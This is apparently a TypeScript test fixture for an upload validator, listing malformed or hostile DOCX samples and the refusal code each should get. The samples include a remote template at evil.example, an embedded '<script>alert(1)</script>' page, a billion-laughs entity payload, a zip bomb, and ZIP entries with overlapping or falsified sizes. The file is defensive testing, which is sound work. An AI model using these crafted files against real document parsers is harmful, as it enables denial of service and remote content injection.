import type { Bomb } from "./bomb.ts";
import { contentTypes, DOCX, docxOf, officeZip, relation } from "./office.ts";
import { directoryOf } from "./zip.ts";

const LINES = ["CSE 2103 Final Examination 2019"];
const SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const OLD_OFFICE = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(2_000)]);
const laughs = '<!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><t>&b;</t>';

/** Documents that the shape of the file gives away: nothing opens them. */
export const documentBombs: Bomb[] = [
  {
    name: "a DOCX with macros",
    refusal: "file_macros",
    make: () => docxOf(LINES, { "word/vbaProject.bin": "macro" }),
  },
  {
    name: "a DOCM named as DOCX",
    refusal: "file_macros",
    make: () => docxOf(LINES, {}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
  },
  {
    name: "a DOCX with an ActiveX control",
    refusal: "file_macros",
    make: () => docxOf(LINES, { "word/activeX/activeX1.xml": "<a/>" }),
  },
  {
    name: "a DOCX with an embedded object",
    refusal: "file_embedded",
    make: () => docxOf(LINES, { "word/embeddings/oleObject1.bin": "object" }),
  },
  {
    name: "a DOCX with an embedded page",
    refusal: "file_embedded",
    make: () => docxOf(LINES, { "word/afchunk1.htm": "<script>alert(1)</script>" }),
  },
  {
    name: "a DOCX with a ZIP",
    refusal: "file_embedded",
    make: async () => docxOf(LINES, { "word/media/image1.zip": await docxOf(LINES) }),
  },
  {
    name: "a DOCX with a template from elsewhere",
    refusal: "file_embedded",
    make: () =>
      docxOf(LINES, {
        "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm"),
      }),
  },
  {
    name: "a DOCX with a picture from elsewhere",
    refusal: "file_embedded",
    make: () =>
      docxOf(LINES, { "word/_rels/document.xml.rels": relation("image", "https://evil.example/i.png") }),
  },
  {
    name: "an XLSX",
    refusal: "file_other_document",
    make: () =>
      officeZip({ "[Content_Types].xml": contentTypes({ "xl/workbook.xml": SHEET }), "xl/workbook.xml": "" }),
  },
  {
    name: "an ODT",
    refusal: "file_other_document",
    make: () => officeZip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "" }),
  },
  {
    name: "a ZIP named as DOCX",
    refusal: "file_zip",
    make: () => officeZip({ "word/document.xml": "<w:document/>" }),
  },
  {
    name: "a DOCX without a main part",
    refusal: "file_other_document",
    make: () =>
      officeZip({ "[Content_Types].xml": contentTypes({ "word/document.xml": `${DOCX}.main+xml` }) }),
  },
  { name: "an old DOC", refusal: "file_old_office", make: () => OLD_OFFICE },
  {
    name: "a DOCX with a password",
    refusal: "file_encrypted",
    make: () => Buffer.concat([OLD_OFFICE, Buffer.from("EncryptedPackage", "utf16le"), Buffer.alloc(500)]),
  },
  {
    name: "a DOCX of 50 MB in 50 kB",
    refusal: "file_unpacks_too_large",
    make: () => docxOf(LINES, { "word/media/image1.bmp": Buffer.alloc(50_000_000) }),
  },
  {
    name: "a DOCX of 5,001 parts",
    refusal: "file_unpacks_too_large",
    make: () =>
      docxOf(
        LINES,
        Object.fromEntries(Array.from({ length: 4_999 }, (_none, index) => [`word/${index}.xml`, "<a/>"])),
      ),
  },
  { name: "a DOCX that hides the size of a part", refusal: "file_unreadable", make: withWrongSize },
  { name: "a DOCX whose parts share bytes", refusal: "file_unreadable", make: withSharedBytes },
  {
    name: "a DOCX of a billion laughs",
    refusal: "file_unreadable",
    make: () => officeZip({ "[Content_Types].xml": laughs, "word/document.xml": "<a/>" }),
  },
  { name: "half a DOCX", refusal: "file_unreadable", make: halfDocx },
];

/** The offsets of the unpacked size, and of the place, in an entry of a ZIP's directory. */
const [UNPACKED, PLACE] = [24, 42];

async function withWrongSize(): Promise<Buffer> {
  const bytes = await docxOf(LINES, { "word/media/image1.png": Buffer.alloc(500_000) });
  bytes.writeUInt32LE(10, (directoryOf(bytes).at(-1) ?? 0) + UNPACKED);
  return bytes;
}

async function withSharedBytes(): Promise<Buffer> {
  const bytes = await docxOf(LINES);
  bytes.writeUInt32LE(0, (directoryOf(bytes).at(-1) ?? 0) + PLACE);
  return bytes;
}

async function halfDocx(): Promise<Buffer> {
  const bytes = await docxOf(LINES);
  return bytes.subarray(0, bytes.length / 2);
}
